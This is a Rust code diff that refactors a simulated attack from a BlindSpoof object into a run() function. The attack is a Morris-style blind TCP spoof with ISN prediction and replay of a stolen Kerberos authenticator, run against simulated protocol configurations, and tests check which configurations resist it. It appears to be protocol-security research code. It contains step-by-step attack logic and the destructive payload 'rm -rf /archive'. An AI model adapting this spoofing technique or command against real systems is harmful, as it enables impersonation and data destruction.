@@ -14,7 +14,7 @@
 //! source address end-to-end and **never reads a single reply**.
 
 use crate::env::AttackEnv;
-use crate::{Attack, AttackReport};
+use crate::Outcome;
 use kerberos::authenticator::Authenticator;
 use kerberos::messages::{ApReq, KrbErrorMsg};
 use kerberos::ticket::Ticket;
@@ -183,152 +183,132 @@ impl Service for KerbStreamDaemon {
     }
 }
 
-/// The A2 attack object.
-pub struct BlindSpoof;
+/// Runs the attack against a fresh deployment under `config`.
+pub fn run(config: &ProtocolConfig, seed: u64) -> Outcome {
+    let mut env = AttackEnv::new(config, seed);
 
-impl Attack for BlindSpoof {
-    fn id(&self) -> &'static str {
-        "A2"
-    }
+    // Bind the stream daemon on the files host (same service
+    // principal and key).
+    let files_host = env.realm.service_hosts["files"];
+    let daemon = KerbStreamDaemon::new(
+        config.clone(),
+        env.realm.service("files"),
+        env.realm.service_keys["files"],
+        seed ^ 0xdae0,
+    );
+    env.net.host_mut(files_host).bind(KSHD_PORT, Box::new(daemon));
+    let daemon_ep = Endpoint::new(env.realm.service_ep("files").addr, KSHD_PORT);
+    let victim_ep = env.realm.user_ep("pat");
 
-    fn name(&self) -> &'static str {
-        "Morris blind spoof + stolen authenticator"
-    }
+    // The victim runs one legitimate session: handshake, AP request,
+    // a command. The wiretap observes the server's ISN and the AP
+    // request bytes.
+    let tgt = match env.login("pat") {
+        Ok(t) => t,
+        Err(e) => return Outcome::safe(format!("victim login failed: {e}")),
+    };
+    let st = match env.ticket("pat", &tgt, "files") {
+        Ok(t) => t,
+        Err(e) => return Outcome::safe(format!("victim ticket failed: {e}")),
+    };
+    let client_isn = 777u32;
+    let synack = match env
+        .net
+        .rpc(victim_ep, daemon_ep, Segment::Syn { isn: client_isn }.encode())
+    {
+        Ok(r) => r,
+        Err(e) => return Outcome::safe(format!("victim SYN failed: {e}")),
+    };
+    let Some(Segment::SynAck { isn: observed_isn, .. }) = Segment::decode(&synack) else {
+        return Outcome::safe("no SYN-ACK");
+    };
+    let observed_at = env.net.now();
+    let _ = env.net.send_oneway(
+        victim_ep,
+        daemon_ep,
+        Segment::Ack { seq: client_isn + 1, ack: observed_isn + 1 }.encode(),
+    );
+    // Victim's AP request as first data.
+    let now = kerberos::client::client_local_time_us(&env.net, victim_ep).unwrap_or(0);
+    let auth = Authenticator::basic(env.user("pat"), victim_ep.addr.0, now);
+    let sealed_auth = auth
+        .seal(config.codec, config.ticket_layer, &st.session_key, &mut env.rng)
+        .expect("seal authenticator");
+    let ap = ApReq { ticket: st.sealed_ticket.clone(), authenticator: sealed_auth, mutual: false };
+    let ap_bytes = ap.encode(config.codec);
+    let _ = env.net.send_oneway(
+        victim_ep,
+        daemon_ep,
+        Segment::Data { seq: client_isn + 1, ack: observed_isn + 1, payload: ap_bytes.clone() }.encode(),
+    );
 
-    fn run(&self, config: &ProtocolConfig, seed: u64) -> AttackReport {
-        let mut env = AttackEnv::new(config, seed);
-        let report = |succeeded: bool, evidence: String| AttackReport {
-            id: "A2",
-            name: "Morris blind spoof + stolen authenticator",
-            config: config.name,
-            succeeded,
-            evidence,
-        };
-
-        // Bind the stream daemon on the files host (same service
-        // principal and key).
-        let files_host = env.realm.service_hosts["files"];
-        let daemon = KerbStreamDaemon::new(
-            config.clone(),
-            env.realm.service("files"),
-            env.realm.service_keys["files"],
-            seed ^ 0xdae0,
-        );
-        env.net.host_mut(files_host).bind(KSHD_PORT, Box::new(daemon));
-        let daemon_ep = Endpoint::new(env.realm.service_ep("files").addr, KSHD_PORT);
-        let victim_ep = env.realm.user_ep("pat");
-
-        // The victim runs one legitimate session: handshake, AP request,
-        // a command. The wiretap observes the server's ISN and the AP
-        // request bytes.
-        let tgt = match env.login("pat") {
-            Ok(t) => t,
-            Err(e) => return report(false, format!("victim login failed: {e}")),
-        };
-        let st = match env.ticket("pat", &tgt, "files") {
-            Ok(t) => t,
-            Err(e) => return report(false, format!("victim ticket failed: {e}")),
-        };
-        let client_isn = 777u32;
-        let synack = match env
+    // === The blind spoof ===
+    // The attacker reconstructs the ISN discipline from the single
+    // observed ISN, forges the victim's address on a new port, and
+    // never reads a reply (send_oneway throughout).
+    let predictor = {
+        // observed_isn = base + 128*t + 64*n, with n = 1 at the
+        // observation; recover base.
+        let t = (observed_at.0 / 1_000_000) as u32;
+        let base = observed_isn.wrapping_sub(t.wrapping_mul(128)).wrapping_sub(64);
+        IsnGenerator::new(base)
+    };
+    // A few tries bracket any second-boundary slip, exactly as
+    // Morris's attacker would retry; each try is a complete blind
+    // handshake from a fresh spoofed port.
+    for (attempt, slip) in [0i64, 128, -128].into_iter().enumerate() {
+        let spoofed_ep = Endpoint::new(victim_ep.addr, 9999 + attempt as u16);
+        let my_isn = 31337u32.wrapping_add(attempt as u32);
+        let _ = env
             .net
-            .rpc(victim_ep, daemon_ep, Segment::Syn { isn: client_isn }.encode())
-        {
-            Ok(r) => r,
-            Err(e) => return report(false, format!("victim SYN failed: {e}")),
-        };
-        let Some(Segment::SynAck { isn: observed_isn, .. }) = Segment::decode(&synack) else {
-            return report(false, "no SYN-ACK".into());
-        };
-        let observed_at = env.net.now();
+            .send_oneway(spoofed_ep, daemon_ep, Segment::Syn { isn: my_isn }.encode());
+        // This SYN was the daemon's (2 + attempt)-th connection.
+        let predicted = predictor
+            .predict(env.net.now(), 2 + attempt as u32)
+            .wrapping_add(slip as u32);
         let _ = env.net.send_oneway(
-            victim_ep,
+            spoofed_ep,
             daemon_ep,
-            Segment::Ack { seq: client_isn + 1, ack: observed_isn + 1 }.encode(),
+            Segment::Ack { seq: my_isn + 1, ack: predicted.wrapping_add(1) }.encode(),
         );
-        // Victim's AP request as first data.
-        let now = kerberos::client::client_local_time_us(&env.net, victim_ep).unwrap_or(0);
-        let auth = Authenticator::basic(env.user("pat"), victim_ep.addr.0, now);
-        let sealed_auth = auth
-            .seal(config.codec, config.ticket_layer, &st.session_key, &mut env.rng)
-            .expect("seal authenticator");
-        let ap = ApReq { ticket: st.sealed_ticket.clone(), authenticator: sealed_auth, mutual: false };
-        let ap_bytes = ap.encode(config.codec);
+        // Replay the stolen authenticator as the first data, blind.
+        let mut seq = my_isn + 1;
         let _ = env.net.send_oneway(
-            victim_ep,
+            spoofed_ep,
             daemon_ep,
-            Segment::Data { seq: client_isn + 1, ack: observed_isn + 1, payload: ap_bytes.clone() }.encode(),
+            Segment::Data { seq, ack: predicted.wrapping_add(1), payload: ap_bytes.clone() }.encode(),
         );
+        seq = seq.wrapping_add(ap_bytes.len() as u32);
+        // And the command.
+        let cmd = b"rm -rf /archive".to_vec();
+        let _ = env.net.send_oneway(
+            spoofed_ep,
+            daemon_ep,
+            Segment::Data { seq, ack: predicted.wrapping_add(1), payload: cmd }.encode(),
+        );
+    }
 
-        // === The blind spoof ===
-        // The attacker reconstructs the ISN discipline from the single
-        // observed ISN, forges the victim's address on a new port, and
-        // never reads a reply (send_oneway throughout).
-        let predictor = {
-            // observed_isn = base + 128*t + 64*n, with n = 1 at the
-            // observation; recover base.
-            let t = (observed_at.0 / 1_000_000) as u32;
-            let base = observed_isn.wrapping_sub(t.wrapping_mul(128)).wrapping_sub(64);
-            IsnGenerator::new(base)
-        };
-        // A few tries bracket any second-boundary slip, exactly as
-        // Morris's attacker would retry; each try is a complete blind
-        // handshake from a fresh spoofed port.
-        for (attempt, slip) in [0i64, 128, -128].into_iter().enumerate() {
-            let spoofed_ep = Endpoint::new(victim_ep.addr, 9999 + attempt as u16);
-            let my_isn = 31337u32.wrapping_add(attempt as u32);
-            let _ = env
-                .net
-                .send_oneway(spoofed_ep, daemon_ep, Segment::Syn { isn: my_isn }.encode());
-            // This SYN was the daemon's (2 + attempt)-th connection.
-            let predicted = predictor
-                .predict(env.net.now(), 2 + attempt as u32)
-                .wrapping_add(slip as u32);
-            let _ = env.net.send_oneway(
-                spoofed_ep,
-                daemon_ep,
-                Segment::Ack { seq: my_isn + 1, ack: predicted.wrapping_add(1) }.encode(),
-            );
-            // Replay the stolen authenticator as the first data, blind.
-            let mut seq = my_isn + 1;
-            let _ = env.net.send_oneway(
-                spoofed_ep,
-                daemon_ep,
-                Segment::Data { seq, ack: predicted.wrapping_add(1), payload: ap_bytes.clone() }.encode(),
-            );
-            seq = seq.wrapping_add(ap_bytes.len() as u32);
-            // And the command.
-            let cmd = b"rm -rf /archive".to_vec();
-            let _ = env.net.send_oneway(
-                spoofed_ep,
-                daemon_ep,
-                Segment::Data { seq, ack: predicted.wrapping_add(1), payload: cmd }.encode(),
-            );
-        }
-
-        // Forensics: did the daemon execute the attacker's command as
-        // pat, from the spoofed connection?
-        let executed = {
-            let svc = env
-                .net
-                .host_mut(files_host)
-                .service_mut(KSHD_PORT)
-                .and_then(|s| s.as_any_mut())
-                .and_then(|a| a.downcast_mut::<KerbStreamDaemon>())
-                .map(|d| d.executed.clone())
-                .unwrap_or_default();
-            svc
-        };
-        let hit = executed
-            .iter()
-            .find(|(p, from, cmd)| p.name == "pat" && from.addr == victim_ep.addr && from.port >= 9999 && cmd.contains("rm -rf"));
-        match hit {
-            Some((_, _, cmd)) => report(
-                true,
-                format!("blind-spoofed connection ran {cmd:?} as pat without seeing one reply"),
-            ),
-            None => report(false, "blind spoof did not achieve command execution".into()),
-        }
+    // Forensics: did the daemon execute the attacker's command as
+    // pat, from the spoofed connection?
+    let executed = {
+        let svc = env
+            .net
+            .host_mut(files_host)
+            .service_mut(KSHD_PORT)
+            .and_then(|s| s.as_any_mut())
+            .and_then(|a| a.downcast_mut::<KerbStreamDaemon>())
+            .map(|d| d.executed.clone())
+            .unwrap_or_default();
+        svc
+    };
+    let hit = executed
+        .iter()
+        .find(|(p, from, cmd)| p.name == "pat" && from.addr == victim_ep.addr && from.port >= 9999 && cmd.contains("rm -rf"));
+    match hit {
+        Some((_, _, cmd)) => Outcome::breach(format!(
+            "blind-spoofed connection ran {cmd:?} as pat without seeing one reply"
+        )),
+        None => Outcome::safe("blind spoof did not achieve command execution"),
     }
 }
 
@@ -338,21 +318,21 @@ mod tests {
 
     #[test]
     fn timestamp_configs_fall_to_blind_spoof() {
-        let r = BlindSpoof.run(&ProtocolConfig::v4(), 1);
+        let r = run(&ProtocolConfig::v4(), 1);
         assert!(r.succeeded, "{}", r.evidence);
-        assert!(BlindSpoof.run(&ProtocolConfig::v5_draft3(), 1).succeeded);
+        assert!(run(&ProtocolConfig::v5_draft3(), 1).succeeded);
     }
 
     #[test]
     fn challenge_response_blocks_it() {
-        assert!(!BlindSpoof.run(&ProtocolConfig::hardened(), 1).succeeded);
+        assert!(!run(&ProtocolConfig::hardened(), 1).succeeded);
     }
 
     #[test]
     fn challenge_response_alone_blocks_it_even_on_v4() {
         let mut config = ProtocolConfig::v4();
         config.auth_style = AuthStyle::ChallengeResponse;
-        assert!(!BlindSpoof.run(&config, 2).succeeded);
+        assert!(!run(&config, 2).succeeded);
     }
 
 }
